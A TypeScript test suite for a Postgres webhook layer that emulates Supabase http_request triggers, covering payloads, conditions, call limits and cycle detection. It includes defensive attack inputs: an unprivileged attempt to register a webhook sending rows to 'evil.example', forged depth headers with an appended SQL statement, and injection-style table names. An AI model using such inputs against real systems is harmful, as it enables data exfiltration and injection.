// Triggers that cause calls: Supabase's `http_request`, and rowhouse.webhook() for whole statements.
import t, { type Test } from 'tap'
import { createMigratedDatabase, withClient } from '../support/database.ts'
import { webhookMigration, type WebhookWish } from '../../server/tools/webhooks/webhook-sql.ts'

type Payload = {
  readonly type: string
  readonly table: string
  readonly schema: string
  readonly record: Record<string, unknown> | null
  readonly old_record: Record<string, unknown> | null
  readonly position?: string
  readonly at?: string
}

const database = await createMigratedDatabase()
t.teardown(() => database.drop())

async function newTable(t: Test, columns = 'id int primary key, total numeric, status text'): Promise<string> {
  const name = `orders_${t.name.toLowerCase().replaceAll(/\W+/g, '_').slice(0, 40)}`
  await database.query(`create table public.${name} (${columns})`)
  return name
}

const addWebhook = (table: string, wish: Partial<WebhookWish> = {}): Promise<unknown> =>
  database.query(
    webhookMigration(
      { schema: 'public', name: table },
      { name: 'changes', events: ['insert', 'update', 'delete'], url: 'https://example.com/hook', ...wish },
    ),
  )

type Call = {
  readonly id: string
  readonly webhook: string
  readonly key: string | null
  readonly request_id: string | null
  readonly body: string | null
}

async function callsOf(table: string): Promise<(Call & { readonly payload: Payload })[]> {
  const { rows } = await database.query(
    "select * from rowhouse.calls where webhook like 'public.' || $1 || '.%' order by number",
    [table],
  )
  return (rows as unknown as Call[]).map((row) => ({ ...row, payload: JSON.parse(row.body ?? 'null') as Payload }))
}

t.test("the triggers of Supabase's documentation", async (t) => {
  const table = await newTable(t)
  // https://supabase.com/docs/guides/database/webhooks
  await database.query(`
    create trigger "my_webhook" after insert
    on "public"."${table}" for each row
    execute function "supabase_functions"."http_request"(
      'http://host.docker.internal:3000',
      'POST',
      '{"Content-Type":"application/json"}',
      '{}',
      '1000'
    );
    CREATE TRIGGER all_changes AFTER INSERT OR UPDATE OR DELETE ON public.${table} FOR EACH ROW
    EXECUTE FUNCTION supabase_functions.http_request('https://example.com/x?a=1', 'GET', 'null', '{"key": "a b"}', 'null');`)
  await database.query(`insert into ${table} values (1, 10, 'new')`)
  await database.query(`update ${table} set total = 11`)
  await database.query(`delete from ${table}`)
  const calls = await callsOf(table)
  t.match(calls, [
    {
      webhook: `public.${table}.all_changes`,
      method: 'GET',
      url: 'https://example.com/x?a=1&key=a%20b',
      body: null,
      timeout_ms: 1000,
      retries: true,
    },
    {
      webhook: `public.${table}.my_webhook`,
      method: 'POST',
      url: 'http://host.docker.internal:3000',
      headers: { 'Content-Type': 'application/json' },
      timeout_ms: 1000,
      retries: true,
    },
    { webhook: `public.${table}.all_changes` },
    { webhook: `public.${table}.all_changes` },
  ])
  t.strictSame(
    calls[1]?.payload,
    { type: 'INSERT', table, schema: 'public', record: { id: 1, total: 10, status: 'new' }, old_record: null },
    "the payload is Supabase's, without more",
  )
  t.ok(Number(calls[1]?.request_id) > 0)
})

t.test('http_request refuses what Supabase refuses', async (t) => {
  const table = await newTable(t)
  for (const [args, message] of [
    ['', /url argument is missing/],
    ["'null', 'POST'", /url argument is missing/],
    ["'http://a'", /method argument is missing/],
    ["'http://a', 'PUT'", /method argument PUT is invalid/],
    ["'nowhere', 'POST'", /invalid URL "nowhere"/],
  ] as const) {
    await database.query(
      `create or replace trigger t after insert on ${table} for each row execute function supabase_functions.http_request(${args})`,
    )
    await t.rejects(database.query(`insert into ${table} values (1)`), { message }, args)
  }
})

t.test('before a deletion, http_request lets it happen', async (t) => {
  const table = await newTable(t)
  await database.query(`insert into ${table} values (1);
    create trigger t before delete on ${table} for each row execute function supabase_functions.http_request('http://a', 'POST')`)
  t.equal((await database.query(`delete from ${table}`)).rowCount, 1)
})

t.test('one statement adds the calls of all its rows', async (t) => {
  const table = await newTable(t)
  await addWebhook(table, { key: ['id'], headers: { 'X-A': 'b' }, timeoutMs: 3000 })
  await database.query(`insert into ${table} values (1, 10, 'a'), (2, 20, 'b')`)
  await database.query(`update ${table} set id = id + 100, total = total + 1`)
  await database.query(`delete from ${table} where id = 102`)
  await database.query(`delete from ${table} where false`)
  const calls = await callsOf(table)
  t.strictSame(
    calls.map(({ payload: { type, record, old_record: old }, key }) => [type, record?.total, old?.total, old?.id, key]),
    [
      ['INSERT', 10, undefined, undefined, `public.${table}.changes:1`],
      ['INSERT', 20, undefined, undefined, `public.${table}.changes:2`],
      ['UPDATE', 11, 10, 1, `public.${table}.changes:101`],
      ['UPDATE', 21, 20, 2, `public.${table}.changes:102`],
      ['DELETE', undefined, 21, 102, `public.${table}.changes:102`],
    ],
  )
  t.match(calls[0], {
    webhook: `public.${table}.changes`,
    method: 'POST',
    url: 'https://example.com/hook',
    host: 'example.com',
    headers: { 'X-A': 'b', 'Content-Type': 'application/json' },
    timeout_ms: 3000,
    retries: true,
    request_id: null,
  })
  const [first] = calls
  t.match(first?.id, /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/)
  t.match(first?.payload.position, /^[0-9A-F]+\/[0-9A-F]+$/)
  t.ok(Math.abs(Date.parse(first?.payload.at ?? '') - Date.now()) < 60_000)
  const { rows } = await database.query(
    `select bool_and(a.position <= b.position and a.id < b.id) as ascend from rowhouse.calls a join rowhouse.calls b on a.number < b.number
     where a.webhook = $1 and b.webhook = $1 and a.created_at < b.created_at`,
    [`public.${table}.changes`],
  )
  t.strictSame(rows, [{ ascend: true }], 'positions and ids ascend')
})

t.test('conditions', async (t) => {
  const table = await newTable(t)
  await addWebhook(table, { name: 'big', events: ['insert'], when: "new.total > 100 and new.status <> 'it''s'" })
  await addWebhook(table, {
    name: 'crossed',
    events: ['update'],
    when: 'new.total > 100 and old.total <= 100 -- a comment',
    key: ['id', 'status'],
  })
  await addWebhook(table, { name: 'gone', events: ['delete'], when: 'old.total > 100' })
  await database.query(`insert into ${table} values (1, 10, 'a'), (2, 200, 'b'), (3, 300, 'it''s'), (4, null, 'c')`)
  await database.query(`update ${table} set total = total * 20`)
  await database.query(`delete from ${table} where id < 4`)
  t.strictSame(
    (await callsOf(table)).map(({ webhook, key, payload: { record, old_record: old } }) => [
      webhook.split('.')[2],
      record?.id ?? old?.id,
      key,
      Object.keys(record ?? old ?? {}).sort(),
    ]),
    [
      ['big', 2, null, ['id', 'status', 'total']],
      ['crossed', 1, `public.${table}.crossed:1,a`, ['id', 'status', 'total']],
      ['gone', 1, null, ['id', 'status', 'total']],
      ['gone', 2, null, ['id', 'status', 'total']],
      ['gone', 3, null, ['id', 'status', 'total']],
    ],
  )
})

t.test('columns with the names that the trigger uses, in statements with one row and with several', async (t) => {
  const names = [
    'c',
    'o',
    'new',
    'old',
    'whole',
    'place',
    'places',
    'records',
    'target',
    'tg_relid',
    'oid',
    'body',
    'key',
  ]
  const table = await newTable(t, `id int, ${names.map((name) => `"${name}" text`).join(', ')}`)
  await addWebhook(table, { key: ['id', 'c'] })
  await addWebhook(table, { name: 'chosen', when: 'true' })
  const values = (id: number): string => `(${id}, ${names.map((name) => `'${name}'`).join(', ')})`
  const whole = (id: number): Record<string, unknown> => ({
    id,
    ...Object.fromEntries(names.map((name) => [name, name])),
  })
  const [one, two, three] = [1, 2, 3].map(whole)
  await database.query(`insert into ${table} values ${values(1)}`)
  await database.query(`insert into ${table} values ${values(2)}, ${values(3)}`)
  await database.query(`update ${table} set c = 'changed' where id = 1`)
  await database.query(`update ${table} set c = 'c'`)
  await database.query(`update ${table} set c = 'never' where id > 3`)
  await database.query(`delete from ${table} where id = 1`)
  await database.query(`delete from ${table}`)
  const calls = await callsOf(table)
  for (const webhook of ['changes', 'chosen']) {
    t.strictSame(
      calls
        .filter((call) => call.webhook.endsWith(webhook))
        .map(({ payload: { type, record, old_record: old } }) => [type, record, old]),
      [
        ['INSERT', one, null],
        ['INSERT', two, null],
        ['INSERT', three, null],
        ['UPDATE', { ...one, c: 'changed' }, one],
        ['UPDATE', two, two],
        ['UPDATE', three, three],
        ['UPDATE', one, { ...one, c: 'changed' }],
        ['DELETE', null, one],
        ['DELETE', null, two],
        ['DELETE', null, three],
      ],
      webhook,
    )
  }
  t.strictSame(
    new Set(calls.map(({ key }) => key?.split(':')[1])),
    new Set(['1,c', '1,changed', '2,c', '3,c', undefined]),
  )
})

t.test('conditions of statements with one row', async (t) => {
  const table = await newTable(t)
  await addWebhook(table, { name: 'big', events: ['insert'], when: 'new.total > 100 -- a comment' })
  await addWebhook(table, { name: 'crossed', events: ['update'], when: 'new.total > 100 and old.total <= 100' })
  await addWebhook(table, { name: 'gone', events: ['delete'], when: 'old.total > 100' })
  for (const total of [100, 101, null]) {
    await database.query(`insert into ${table} values (1, ${total})`)
    await database.query(`update ${table} set total = 1`)
    for (const next of [100, 200, 300]) await database.query(`update ${table} set total = ${next}`)
    await database.query(`delete from ${table}`)
  }
  t.strictSame(
    (await callsOf(table)).map(({ webhook, payload: { record, old_record: old } }) => [
      webhook.split('.')[2],
      record?.total,
      old?.total,
    ]),
    [
      ['crossed', 200, 100],
      ['gone', undefined, 300],
      ['big', 101, undefined],
      ['crossed', 200, 100],
      ['gone', undefined, 300],
      ['crossed', 200, 100],
      ['gone', undefined, 300],
    ],
  )
})

t.test('rows of partitions, of upserts, of COPY and of MERGE', async (t) => {
  await database.query(`
    create table parted (id int, part int, primary key (id, part)) partition by list (part);
    create table parted_1 partition of parted for values in (1);
    create table parted_2 partition of parted for values in (2);
    create table parted_3 partition of parted for values in (3);
    create function keep_out() returns trigger language plpgsql as 'begin if new.id = 2 then return null; end if; return new; end';
    create trigger keep_out before insert on parted_3 for each row execute function keep_out();`)
  await addWebhook('parted')
  await database.query('insert into parted values (1, 1), (2, 1), (3, 1)')
  await database.query('update parted set part = 2 where id = 1')
  // Row 2 is deleted from its partition, and does not arrive in the other one.
  await database.query('update parted set part = 3 where id > 1')
  await database.query('insert into parted values (3, 3) on conflict (id, part) do update set id = 33')
  const seen = (await callsOf('parted')).map(({ payload: { type, record, old_record: old } }) => [
    type,
    record?.id,
    record?.part,
    old?.id,
    old?.part,
  ])
  t.strictSame(seen, [
    ['INSERT', 1, 1, undefined, undefined],
    ['INSERT', 2, 1, undefined, undefined],
    ['INSERT', 3, 1, undefined, undefined],
    ['UPDATE', 1, 2, 1, 1],
    ['UPDATE', 3, 3, undefined, undefined],
    ['UPDATE', 33, 3, 3, 3],
  ])
})

t.test('a statement with many rows', async (t) => {
  const table = await newTable(t)
  await addWebhook(table, { key: ['id'] })
  // The plan of the first execution is for one row.
  await withClient(database.adminUri, async (client) => {
    await client.query(`insert into ${table} values (-1, 0, 'a')`)
    await client.query(`update ${table} set total = 1`)
    await client.query('begin; set local statement_timeout = 60000')
    await client.query(`insert into ${table} select i, i, 'a' from generate_series(1, 10000) as i`)
    await client.query(`update ${table} set total = total + 1 where id > 0`)
    await client.query('commit')
  })
  const { rows } = await database.query(
    `select count(*)::int as calls, count(distinct key)::int as keys,
       count(*) filter (where (body::json #>> '{record,total}')::int = (body::json #>> '{old_record,total}')::int + 1
         and body::json #>> '{record,id}' = body::json #>> '{old_record,id}')::int as pairs
     from rowhouse.calls where webhook = $1`,
    [`public.${table}.changes`],
  )
  t.strictSame(rows, [{ calls: 20_002, keys: 10_001, pairs: 10_001 }])
  await t.rejects(
    database.query(`insert into ${table} select i, i, 'a' from generate_series(100001, 1100000) as i`),
    {
      code: '54000',
      message: 'more than 100000 outgoing calls in one transaction',
      hint: /rowhouse\.calls_per_transaction/,
    },
    'a million',
  )
  t.strictSame((await database.query(`select count(*)::int from ${table}`)).rows, [{ count: 10_001 }])
})

t.test('limits of a transaction', async (t) => {
  const table = await newTable(t)
  await addWebhook(table, { events: ['insert'] })
  await withClient(database.adminUri, async (client) => {
    const insert = (from: number, to: number, text = "'a'"): Promise<unknown> =>
      client.query(`insert into ${table} select i, i, ${text} from generate_series(${from}, ${to}) as i`)
    await client.query('set rowhouse.calls_per_transaction = 10')
    await client.query('begin')
    await insert(1, 6)
    await client.query("select net.http_get('http://a') from generate_series(1, 3)")
    await client.query('savepoint one')
    await t.rejects(insert(7, 8), { message: 'more than 10 outgoing calls in one transaction' })
    await client.query('rollback to one')
    await insert(7, 7)
    await client.query('savepoint two')
    await t.rejects(client.query("select net.http_get('http://a')"), { code: '54000' })
    await client.query('rollback to two; commit')
    await insert(11, 20)
    await client.query('reset rowhouse.calls_per_transaction; set rowhouse.call_bytes_per_transaction = 100000')
    await t.rejects(insert(21, 23, "repeat('x', 40000)"), {
      message: 'outgoing calls with more than 100000 bytes in one transaction',
      hint: /rowhouse\.call_bytes_per_transaction/,
    })
    await client.query("set rowhouse.call_bytes_per_transaction = 'many'")
    await t.rejects(insert(21, 21), {
      message: "the setting rowhouse.call_bytes_per_transaction is 'many': it must be a whole number",
    })
    await client.query('reset rowhouse.call_bytes_per_transaction')
    await t.rejects(insert(21, 21, "repeat('x', 17000000)"), {
      message: /body of an outgoing call has \d+ bytes: at most/,
    })
    // What another transaction of the session has counted does not count.
    await client.query("set rowhouse.calls_counted = '1 100000 0'")
    await insert(21, 21)
  })
})

t.test('a row trigger that fires often in one transaction is bounded', async (t) => {
  const table = await newTable(t)
  await database.query(
    `create trigger t after insert on ${table} for each row execute function supabase_functions.http_request('http://a', 'POST')`,
  )
  await withClient(database.adminUri, async (client) => {
    await client.query('set rowhouse.calls_per_transaction = 500')
    await t.rejects(client.query(`insert into ${table} select i from generate_series(1, 1000000) as i`), {
      code: '54000',
    })
  })
})

t.test('cycles end', async (t) => {
  const table = await newTable(t)
  await addWebhook(table, { events: ['insert'] })
  const insertAt = async (headers: string): Promise<Call | undefined> => {
    await withClient(database.adminUri, async (client) => {
      await client.query('begin')
      await client.query("select set_config('request.headers', $1, true)", [headers])
      await client.query(`delete from ${table}; insert into ${table} values (1); select net.http_get('http://cycle')`)
      await client.query('commit')
    })
    return (await callsOf(table)).at(-1)
  }
  t.match(await insertAt('{"webhook-depth":"3"}'), { depth: 4, state: 'waiting' })
  t.match(await insertAt('{"a":"b", "webhook-depth" : "7"}'), { depth: 8, state: 'waiting' })
  t.match(await insertAt('{"webhook-depth":"8"}'), {
    depth: 9,
    state: 'dead',
    last_error: /9 calls have caused each other/,
    finished_at: Date,
  })
  const net = await database.query("select depth, state from rowhouse.calls where host = 'cycle' order by number")
  t.strictSame(net.rows, [
    { depth: 4, state: 'waiting' },
    { depth: 8, state: 'waiting' },
    { depth: 9, state: 'dead' },
  ])
  for (const forged of [
    '{"a":"\\"webhook-depth\\":\\"8\\""}',
    '{"x-webhook-depth":"8"}',
    '{"webhook-depth":"-1"}',
    '{"webhook-depth":"8; select 1"}',
    'webhook-depth',
    '',
  ]) {
    t.match(await insertAt(forged), { depth: 1, state: 'waiting' }, forged)
  }
})

t.test('an inserted row is not lost when the webhook is wrong: the statement fails', async (t) => {
  const table = await newTable(t)
  await database.query(
    `create trigger wrong after insert on ${table} for each row execute function rowhouse.webhook('https://a/')`,
  )
  await t.rejects(database.query(`insert into ${table} values (1)`), { message: /for each statement/ })
})

t.test('only the owner creates webhooks, whose conditions have its rights', async (t) => {
  const table = await newTable(t)
  await database.query(`grant all on ${table} to authenticated; grant all on schema public to authenticated`)
  await withClient(database.authenticatorUri, async (client) => {
    await client.query('set role authenticated')
    await t.rejects(
      client.query(
        `create trigger x after insert on ${table} referencing new table as changed_rows for each statement
         execute function rowhouse.webhook('https://evil.example/', '{"when": "1 = 1"}')`,
      ),
      { code: '42501' },
    )
  })
  await addWebhook(table, { events: ['insert'], when: "pg_catalog.current_setting('role') = 'authenticated'" })
  await withClient(database.authenticatorUri, async (client) => {
    await client.query('set role authenticated')
    await client.query(`insert into ${table} values (1)`)
  })
  t.match(await callsOf(table), [{ created_by: 'authenticated' }])
})

t.test('names and texts that could break the SQL', async (t) => {
  await database.query(`create table public."o'rd""er $query$ %s" ("i'd" int, "%I" text)`)
  await database.query(
    webhookMigration(
      { schema: 'public', name: `o'rd"er $query$ %s` },
      {
        name: 'odd',
        events: ['insert', 'update'],
        url: "https://example.com/?q='%25",
        when: `new."i'd" > 0 and '%s $1 $q$' <> ''`,
        key: ["i'd"],
      },
    ),
  )
  await database.query(`insert into public."o'rd""er $query$ %s" values (1, 'a')`)
  await database.query(`update public."o'rd""er $query$ %s" set "i'd" = 2`)
  const { rows } = await database.query(
    "select key, url from rowhouse.calls where webhook like '%.odd' order by number",
  )
  t.strictSame(rows, [
    { key: `public.o'rd"er $query$ %s.odd:1`, url: "https://example.com/?q='%25" },
    { key: `public.o'rd"er $query$ %s.odd:2`, url: "https://example.com/?q='%25" },
  ])
})
